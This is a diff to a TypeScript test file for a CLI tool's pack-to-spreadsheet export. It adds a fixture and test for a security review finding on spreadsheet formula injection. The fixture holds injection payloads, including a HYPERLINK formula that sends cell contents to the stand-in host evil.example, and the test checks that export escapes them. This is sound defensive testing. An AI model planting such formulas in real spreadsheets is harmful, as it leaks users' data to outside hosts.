@@ -2,6 +2,8 @@ import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import Papa from 'papaparse';
+import { isFormulaLike } from '../../domain/formula';
 import { runCliInMemory } from '../run-in-memory';
 import { TEMPLATE_PACK } from '../../../scripts/template-pack';
 import { makeAnswer, makePack } from '../../../tests/packs/make-pack';
@@ -29,12 +31,48 @@ const tricky = makePack({
   ],
 });
 
+// Security review finding 13: pack text that a spreadsheet would run as a formula.
+const formulas = makePack({
+  description: '=HYPERLINK("https://evil.example?"&A1,"x")',
+  answers: [
+    makeAnswer('a-formula', {
+      review: {
+        status: 'approved',
+        reviewer: '@SUM(1+1)',
+        reviewedAt: '2026-01-02',
+        validUntil: '2026-12-31',
+        legalBasis: ['\u200b=1+1', '\uff1d1+1', "'=already quoted"],
+      },
+    }),
+  ],
+});
+
+describe('pack to-sheet escapes formulas (finding 13)', () => {
+  it('writes no cell a spreadsheet would run, and pack build restores the text', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
+    await writeFile(join(dir, 'f.json'), JSON.stringify(formulas));
+    expect((await run(['pack', 'to-sheet', 'f.json', '-o', 'f.csv'], dir)).code).toBe(0);
+    const csv = await readFile(join(dir, 'f.csv'), 'utf8');
+    const cells = Papa.parse<string[]>(csv).data.flat();
+    expect(cells.filter((cell) => isFormulaLike(cell))).toEqual([]);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`);
+    expect(csv).toContain("'@SUM(1+1)");
+    const built = await run(
+      ['pack', 'build', 'f.csv', '-o', 'back.json', '--today', '2026-03-01'],
+      dir,
+    );
+    expect(built.code).toBe(0);
+    expect(JSON.parse(await readFile(join(dir, 'back.json'), 'utf8'))).toEqual(formulas);
+  });
+});
+
 describe('pack build / pack to-sheet', () => {
   it.each(['xlsx', 'csv'])('round-trips packs through .%s to an equal pack', async (ext) => {
     const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
     for (const [name, pack] of [
       ['template', TEMPLATE_PACK],
       ['tricky', tricky],
+      ['formulas', formulas],
     ] as const) {
       await writeFile(join(dir, `${name}.json`), JSON.stringify(pack));
       expect(
